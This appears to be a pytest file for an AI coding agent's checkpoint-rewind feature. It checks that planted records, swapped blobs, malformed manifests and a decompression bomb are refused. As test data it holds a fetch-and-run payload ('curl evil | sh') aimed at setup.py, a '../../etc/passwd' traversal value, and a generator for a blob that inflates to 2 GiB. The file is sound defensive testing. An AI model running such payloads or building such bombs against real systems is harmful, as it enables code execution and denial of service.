"""Rewind against a hostile ``.aries/checkpoints`` (issue 22, hole 3): whatever a repository ships or a process
plants there, a rewind restores only what this user's aries-kernel stored.

Each test plants what an attacker would (a record, a swapped blob, a manifest of the wrong shape, a blob that
inflates to 2 GiB) next to a real checkpoint, then rewinds as after a kernel restart. The ``signed`` variants
seal the hostile bytes with the user's own key, as a bug of ours could: the checks past the MAC (shape, size,
digest) hold on their own.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
import time
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from IPython.core.interactiveshell import InteractiveShell

from aries_kernel.agent import Agent
from aries_kernel.codebase.extract import content_hash
from tests.kernel_harness import run_cell, start_kernel, stop_kernel
from tests.loopback import Reply, ScriptedModelServer
from tests.test_rewind import make_agent, make_repo, run_all, shell, snapshot

__all__ = ["shell"]  # a fixture, used by name

STORE = Path(".aries") / "checkpoints"
SETUP = "from setuptools import setup\nsetup(name='pkg')\n"
EVIL = b"import os\nos.system('curl evil | sh')\n"
AGENT_UTIL = "NAME = 'agent'\n"


@pytest.fixture
def repo(tmp_path: Path, shell: InteractiveShell) -> Iterator[tuple[Path, dict[str, bytes], str]]:
    """A repository with one real checkpoint on disk (turn 1 rewrote pkg/util.py): (root, the files before
    the turn, the session id). The agent that made it is gone, as after a kernel restart."""
    root = tmp_path / "repo"
    make_repo(root)
    (root / "setup.py").write_text(SETUP)
    before = snapshot(root)
    agent, _ = make_agent(
        root,
        shell,
        Reply(tool_calls=[("Write", {"file_path": "pkg/util.py", "content": AGENT_UTIL})]),
        Reply(text="ok"),
    )
    run_all(agent, "rewrite util")
    agent.changes.close()
    assert agent.session is not None and (root / "pkg" / "util.py").read_text() == AGENT_UTIL
    yield root, before, agent.session.id


@pytest.fixture
def restarted(repo: tuple[Path, dict[str, bytes], str], shell: InteractiveShell) -> Iterator[Agent]:
    """A new agent on ``repo`` (records from disk only); call it after planting."""
    agent, _ = make_agent(repo[0], shell)
    yield agent
    agent.changes.close()


def blob_file(root: Path, digest: str) -> Path:
    """The stored blob of ``digest`` (whatever the store's naming)."""
    (found,) = (root / STORE / "blobs" / digest[:2]).glob(digest + "*")
    return found


def plant_record(
    root: Path, number: int, session: str, files: dict[str, list[str | None]], name: str
) -> None:
    """A record as an attacker writes one: the fields of a checkpoint, no MAC."""
    record = {
        "number": number,
        "session": session,
        "turn": number,
        "kind": "turn",
        "time": time.time(),
        "prompt": "planted",
        "messages": 0,
        "files": files,
        "names": [],
        "inplace": [],
        "bytes": 0,
        "undone_by": None,
        "undid": [],
    }
    path = root / STORE / "records" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(record, indent=1))


def plant_evil_setup(root: Path, session: str) -> None:
    """Records 2 (as an earlier aries-kernel wrote them) and 3 (in the sealed form, a made-up MAC) saying that
    before their turn setup.py held EVIL, and EVIL's blob under both namings."""
    evil = content_hash(EVIL)
    files: dict[str, list[str | None]] = {"setup.py": [evil, content_hash(SETUP.encode())]}
    plant_record(root, 2, session, files, "000002.json")
    plant_record(root, 3, session, files, "000003.ckpt")
    sealed = root / STORE / "records" / "000003.ckpt"
    sealed.write_bytes(b"aries-checkpoint 1 record 1 " + b"0" * 64 + b"\n" + sealed.read_bytes())
    folder = root / STORE / "blobs" / evil[:2]
    folder.mkdir(parents=True, exist_ok=True)
    (folder / evil).write_bytes(zlib.compress(EVIL))
    (folder / f"{evil}.blob").write_bytes(zlib.compress(EVIL))


def test_planted_records_are_set_aside_by_name_and_the_real_checkpoint_rewinds(
    repo: tuple[Path, dict[str, bytes], str], restarted: Agent
) -> None:
    root, before, session = repo
    plant_evil_setup(root, session)
    report = restarted.rewind()
    assert report.done, report.text()
    assert (root / "setup.py").read_text() == SETUP
    assert snapshot(root) == before  # checkpoint 1, the real one, was undone
    text = report.text()
    assert "checkpoint 2 (.aries/checkpoints/records/000002.json) is not used: it carries no MAC" in text
    assert "checkpoint 3 (.aries/checkpoints/records/000003.ckpt) is not used: it does not verify" in text
    aside = {path.name for path in (root / STORE / "set-aside").rglob("*") if path.is_file()}
    assert aside == {"000002.json", "000003.ckpt", content_hash(EVIL)}  # the unsealed blob too
    assert [cp.number for cp in restarted.checkpoints.records()] == [1, 2]  # 2: the rewind's own
    status = restarted.checkpoints.status()
    assert "checkpoint 2" in status and "checkpoint 3" in status  # %aries status keeps naming them
    assert restarted.checkpoints.new_notices() == []  # the rewind reported them already


def test_checkpoints_of_the_previous_version_are_refused_by_name(
    tmp_path: Path, shell: InteractiveShell
) -> None:
    """A store as aries-kernel wrote it before checkpoints were sealed: JSON records, bare zlib blobs and
    manifest.json. None is trusted; the next turns checkpoint and rewind as usual."""
    root = tmp_path / "repo"
    make_repo(root)
    old, new = b"NAME = 'before the upgrade'\n", (root / "pkg" / "util.py").read_bytes()
    plant_record(
        root, 1, "old-session", {"pkg/util.py": [content_hash(old), content_hash(new)]}, "000001.json"
    )
    folder = root / STORE / "blobs" / content_hash(old)[:2]
    folder.mkdir(parents=True)
    (folder / content_hash(old)).write_bytes(zlib.compress(old))
    (root / STORE / "manifest.json").write_text(json.dumps({"pkg/util.py": [1, len(new), content_hash(new)]}))

    agent, _ = make_agent(
        root,
        shell,
        Reply(tool_calls=[("Write", {"file_path": "pkg/core.py", "content": "X = 1\n"})]),
        Reply(text="ok"),
    )
    try:
        with pytest.raises(LookupError) as refused:
            agent.rewind()
        message = str(refused.value)
        assert (
            "checkpoint 1 (.aries/checkpoints/records/000001.json) is not used: it carries no MAC" in message
        )
        assert "1 blob(s) without a MAC" in message and "manifest.json carries no MAC" in message
        assert message.endswith("There is no checkpoint to rewind (no agent turn changed anything yet).")
        assert (root / "pkg" / "util.py").read_bytes() == new
        assert (
            not list((root / STORE / "records").glob("*.json"))
            and not (root / STORE / "manifest.json").exists()
        )

        before = snapshot(root)
        run_all(agent, "write core")
        sealed = sorted((root / STORE / "records").iterdir())
        assert [path.name for path in sealed] == ["000001.ckpt"]
        assert sealed[0].read_bytes().startswith(b"aries-checkpoint 1 record ")
        assert (root / STORE / "manifest.ckpt").read_bytes().startswith(b"aries-checkpoint 1 manifest ")
        report = agent.rewind()
        assert report.done and report.notices == [] and snapshot(root) == before
    finally:
        agent.changes.close()


def test_a_swapped_blob_is_not_restored(repo: tuple[Path, dict[str, bytes], str], restarted: Agent) -> None:
    root, before, _ = repo
    util = content_hash(before["pkg/util.py"])
    # The blob of pkg/core.py (a real one, sealed by this user) put where pkg/util.py's content before is.
    blob_file(root, util).write_bytes(blob_file(root, content_hash(before["pkg/core.py"])).read_bytes())
    report = restarted.rewind()
    assert (root / "pkg" / "util.py").read_text() == AGENT_UTIL  # not core.py's content
    assert report.not_restored == [
        "pkg/util.py: its content before cannot be used: the stored blob does not verify under this user's "
        "index key (it changed since it was written, or another key wrote it)"
    ]
    assert any(notice.startswith(f"blob {util} is not used") for notice in report.notices)


def test_a_blob_sealed_with_the_key_but_another_content_is_not_restored(
    repo: tuple[Path, dict[str, bytes], str], restarted: Agent
) -> None:
    from aries_kernel.agent.checkpoints import _sealed

    root, before, _ = repo
    util = content_hash(before["pkg/util.py"])
    blob_file(root, util).write_bytes(_sealed("blob", util, len(EVIL), zlib.compress(EVIL)))
    report = restarted.rewind()
    assert (root / "pkg" / "util.py").read_text() == AGENT_UTIL
    assert report.not_restored == [
        "pkg/util.py: its content before cannot be used: the stored blob does not hold the content its digest "
        "names"
    ]
    # The blob was set aside: the next time a file holds that content, it is stored again.
    assert not list((root / STORE / "blobs" / util[:2]).glob(util + "*"))
    assert [path.name for path in (root / STORE / "set-aside").rglob("*.blob")] == [f"{util}.blob"]


def test_a_symlinked_blob_folder_is_set_aside(
    repo: tuple[Path, dict[str, bytes], str], restarted: Agent
) -> None:
    """Blobs written into ``blobs/zz`` would land where it points (here: the user's pkg/)."""
    root, before, _ = repo
    (root / STORE / "blobs" / "zz").symlink_to(root / "pkg")
    report = restarted.rewind()
    assert report.done and snapshot(root) == before
    assert report.notices[0].startswith(
        ".aries/checkpoints/blobs/zz is a symlink, not a folder: set aside to "
    )
    assert not (root / STORE / "blobs" / "zz").exists()


def test_a_blob_over_a_lowered_max_file_bytes_is_not_restored_but_kept(
    repo: tuple[Path, dict[str, bytes], str], restarted: Agent
) -> None:
    root, before, _ = repo
    util = content_hash(before["pkg/util.py"])
    restarted.checkpoints.settings.max_file_bytes = 8
    report = restarted.rewind()
    assert report.not_restored == [
        f"pkg/util.py: its content before cannot be used: the stored blob holds {len(before['pkg/util.py'])} "
        "bytes, over max_file_bytes (8)"
    ]
    assert report.notices == [] and blob_file(root, util).name == f"{util}.blob"  # not bad: kept


DEEP = b"[" * 200_000 + b"]" * 200_000
HOSTILE_MANIFESTS = {
    "a list": b"[1, 2, 3]",
    "a number for the map": b"42",
    "a number for an entry": b'{"pkg/core.py": 7}',
    "200,000-deep brackets": DEEP,
}
# Records planted beside the real one: a string where the number is, and brackets nested 200,000 deep.
HOSTILE_RECORDS = {
    "a string for a number": b'{"number": "7", "session": "s", "turn": 7, "kind": "turn", "time": 1.0, '
    b'"prompt": "", "messages": 0, "files": {}, "names": [], "inplace": [], "bytes": 0, "undone_by": null, '
    b'"undid": []}',
    "200,000-deep brackets": DEEP,
}


@pytest.mark.parametrize(
    "names, body",
    [(("manifest.json", "manifest.ckpt"), body) for body in HOSTILE_MANIFESTS.values()]
    + [(("records/000007.json", "records/000008.ckpt"), body) for body in HOSTILE_RECORDS.values()],
    ids=[f"manifest: {name}" for name in HOSTILE_MANIFESTS] + [f"record: {name}" for name in HOSTILE_RECORDS],
)
def test_a_file_of_the_wrong_shape_does_not_hide_the_checkpoints(
    repo: tuple[Path, dict[str, bytes], str], restarted: Agent, names: tuple[str, str], body: bytes
) -> None:
    root, before, _ = repo
    for name in names:  # under the earlier naming and the sealed one
        (root / STORE / name).write_bytes(body)
    report = restarted.rewind()
    assert report.done, report.text()
    assert snapshot(root) == before
    sealed = f".aries/checkpoints/{names[1]}" + (
        " is not used" if "manifest" in names[1] else ") is not used"
    )
    assert any(f"{sealed}: it carries no MAC" in notice for notice in report.notices), report.notices


SIGNED_MANIFESTS = {
    "a list": (b"[1, 2, 3]", "it is a JSON list, not a map of paths"),
    "a number for the map": (b"42", "it is a JSON int, not a map of paths"),
    "a number for an entry": (b'{"pkg/core.py": 7}', "it is malformed (the entry of 'pkg/core.py')"),
    "200,000-deep brackets": (DEEP, "it nests too deep"),
    "a string for a number": (
        b'{"pkg/core.py": ["1", 2, "' + b"a" * 32 + b'"]}',
        "it is malformed (the entry of 'pkg/core.py')",
    ),
}


@pytest.mark.parametrize("case", SIGNED_MANIFESTS.values(), ids=SIGNED_MANIFESTS.keys())
def test_a_signed_manifest_of_the_wrong_shape_is_set_aside(
    repo: tuple[Path, dict[str, bytes], str], restarted: Agent, case: tuple[bytes, str]
) -> None:
    from aries_kernel.agent.checkpoints import _sealed

    root, before, _ = repo
    body, why = case
    (root / STORE / "manifest.ckpt").write_bytes(_sealed("manifest", "manifest", len(body), body))
    report = restarted.rewind()
    assert report.done, report.text()
    assert snapshot(root) == before
    assert [notice for notice in report.notices if "manifest" in notice] == [
        f".aries/checkpoints/manifest.ckpt is not used: {why}; set aside to "
        f"{restarted.checkpoints._aside}/manifest.ckpt (the tracked tree is read again)"
    ]


def _json(record: Any) -> bytes:
    return json.dumps(record).encode()


SIGNED_RECORDS = {
    "a string for a number": (
        lambda record: _json(record | {"number": "2"}),
        "it is malformed (field 'number')",
    ),
    "a number for the map": (lambda record: _json(record | {"files": 7}), "it is malformed (field 'files')"),
    "a list": (
        lambda record: b"[1, 2, 3]",
        "it is not a checkpoint record (its fields are not a checkpoint's)",
    ),
    "200,000-deep brackets": (lambda record: DEEP, "it nests too deep"),
    "another number": (
        lambda record: _json(record | {"number": 1}),
        "it holds checkpoint 1, not the 2 of its name",
    ),
    "a path for a hash": (
        lambda record: _json(record | {"files": {"setup.py": ["../../etc/passwd", None]}}),
        "it is malformed (field 'files')",
    ),
}


@pytest.mark.parametrize("case", SIGNED_RECORDS.values(), ids=SIGNED_RECORDS.keys())
def test_a_signed_record_of_the_wrong_shape_is_set_aside_and_the_others_stay(
    repo: tuple[Path, dict[str, bytes], str], restarted: Agent, case: tuple[Any, str]
) -> None:
    from aries_kernel.agent.checkpoints import _sealed

    root, before, _ = repo
    make_body, why = case
    first = (root / STORE / "records" / "000001.ckpt").read_bytes()
    body = make_body(json.loads(first.split(b"\n", 1)[1]) | {"number": 2})
    (root / STORE / "records" / "000002.ckpt").write_bytes(_sealed("record", "000002", len(body), body))
    report = restarted.rewind()
    assert report.done and snapshot(root) == before
    assert report.notices[0].startswith(
        f"checkpoint 2 (.aries/checkpoints/records/000002.ckpt) is not used: {why};"
    )


# A blob of 2 MB that inflates to 2 GiB of zeros, and a process that cannot hold 2 GiB: the rewind must not try.
BOMB_BYTES = 2 << 30
BOMB_LIMIT = 1 << 30  # the child's address space


def inflating_blob(size: int) -> bytes:
    """A zlib stream of ``size`` zero bytes, built from one compressed 16 MiB segment repeated."""
    segment_size = 1 << 24
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = compressor.compress(bytes(segment_size)) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert size % segment_size == 0
    adler = ((size % 65521) << 16) | 1  # adler32 of zeros: a stays 1, b counts the bytes
    return b"\x78\xda" + segment * (size // segment_size) + b"\x03\x00" + adler.to_bytes(4, "big")


@pytest.fixture(scope="module")
def bomb() -> bytes:
    data = inflating_blob(BOMB_BYTES)
    assert len(data) < 3 << 20
    return data


REWIND_IN_A_SMALL_PROCESS = textwrap.dedent(
    """
    import resource, sys
    resource.setrlimit(resource.RLIMIT_AS, ({limit}, {limit}))
    from aries_kernel.agent.checkpoints import Checkpoints

    checkpoints = Checkpoints(sys.argv[1], lambda: [], lambda: [])
    try:
        print(checkpoints.rewind().text())
    except LookupError as exc:
        print(exc)
    """
)


@pytest.mark.parametrize("signed", [False, True], ids=["planted", "signed"])
def test_a_blob_that_inflates_to_2_gib_is_not_inflated_past_its_recorded_size(
    repo: tuple[Path, dict[str, bytes], str], bomb: bytes, signed: bool
) -> None:
    root, before, _ = repo
    util = content_hash(before["pkg/util.py"])
    if signed:
        from aries_kernel.agent.checkpoints import _sealed

        data = _sealed("blob", util, len(before["pkg/util.py"]), bomb)  # a true size, a lying stream
    else:
        data = bomb
    blob_file(root, util).write_bytes(data)
    child = subprocess.run(
        [sys.executable, "-c", REWIND_IN_A_SMALL_PROCESS.format(limit=BOMB_LIMIT), str(root)],
        capture_output=True,
        text=True,
        env=os.environ | {"PYTHONPATH": os.pathsep.join(sys.path)},
    )
    assert child.returncode == 0, child.stderr[-2000:]
    assert (root / "pkg" / "util.py").read_text() == AGENT_UTIL
    why = (
        f"does not inflate to its recorded {len(before['pkg/util.py'])} bytes" if signed else "carries no MAC"
    )
    assert f"pkg/util.py: its content before cannot be used: the stored blob {why}" in child.stdout


def test_the_prompt_is_redacted_in_the_record(tmp_path: Path, shell: InteractiveShell) -> None:
    root = tmp_path / "repo"
    make_repo(root)
    key = "sk-ant-api03-" + "Q7x" * 20
    agent, _ = make_agent(
        root,
        shell,
        Reply(tool_calls=[("Write", {"file_path": "pkg/util.py", "content": AGENT_UTIL})]),
        Reply(text="ok"),
    )
    try:
        run_all(agent, f"use the key {key} to rewrite util")
        (record,) = (root / STORE / "records").iterdir()
        stored = record.read_text()
        assert key not in stored and "use the key [REDACTED:anthropic] to rewrite util" in stored
        assert list(agent.checkpoints.frame()["prompt"]) == [
            "use the key [REDACTED:anthropic] to rewrite util"
        ]
    finally:
        agent.changes.close()


# ------------------------------------------------------------------------------------------- a real kernel


@pytest.mark.kernel
def test_a_planted_record_does_not_change_setup_py_through_the_magic(tmp_path: Path) -> None:
    """The attack of the issue: a repository ships .aries/checkpoints saying setup.py held EVIL; the user's
    first ``%aries rewind`` in a new kernel."""
    root = tmp_path / "repo"
    make_repo(root)
    (root / "setup.py").write_text(SETUP)
    plant_evil_setup(root, "shipped-session")
    km, kc = start_kernel(root)
    try:
        cell = run_cell(kc, "%aries rewind")
        assert (root / "setup.py").read_text() == SETUP
        assert cell.status == "error" and cell.stderr.startswith("UsageError: "), cell
        message = cell.stderr
        assert (
            "checkpoint 2 (.aries/checkpoints/records/000002.json) is not used: it carries no MAC" in message
        )
        assert (
            "checkpoint 3 (.aries/checkpoints/records/000003.ckpt) is not used: it does not verify" in message
        )
        assert "There is no checkpoint to rewind" in message
    finally:
        stop_kernel(km, kc)


@pytest.mark.kernel
def test_a_real_checkpoint_rewinds_in_a_new_kernel_beside_a_deep_manifest_and_planted_records(
    tmp_path: Path, server: ScriptedModelServer
) -> None:
    root = tmp_path / "repo"
    make_repo(root)
    (root / "setup.py").write_text(SETUP)
    before = snapshot(root)
    km, kc = start_kernel(root, env=server.kernel_env())
    try:
        server.script(
            Reply(tool_calls=[("Write", {"file_path": "pkg/util.py", "content": AGENT_UTIL})]),
            Reply(text="Done."),
        )
        cell = run_cell(kc, "%aries --yes rewrite util", timeout=180)
        assert cell.error is None, cell.error
        session = run_cell(kc, "%aries checkpoints").result or ""
        assert "rewrite util" in session
    finally:
        stop_kernel(km, kc)
    for name in ("manifest.json", "manifest.ckpt"):
        (root / STORE / name).write_bytes(DEEP)
    plant_evil_setup(root, "planted")

    km, kc = start_kernel(root, env=server.kernel_env())
    try:
        listed = run_cell(kc, "cps = %aries checkpoints\nprint(list(cps['checkpoint']))")
        assert listed.error is None, listed.error
        assert "checkpoint 2 (.aries/checkpoints/records/000002.json) is not used" in listed.stdout
        assert "checkpoint 3 (.aries/checkpoints/records/000003.ckpt) is not used" in listed.stdout
        assert "manifest.ckpt is not used: it carries no MAC" in listed.stdout
        assert listed.stdout.strip().endswith("[1]")
        rewound = run_cell(kc, "%aries rewind")
        assert rewound.error is None, rewound.error
        assert "Rewound to before turn 1" in (rewound.result or "")
        assert snapshot(root) == before
        status = run_cell(kc, "%aries status")
        assert "checkpoint 2" in (status.result or status.stdout)
    finally:
        stop_kernel(km, kc)
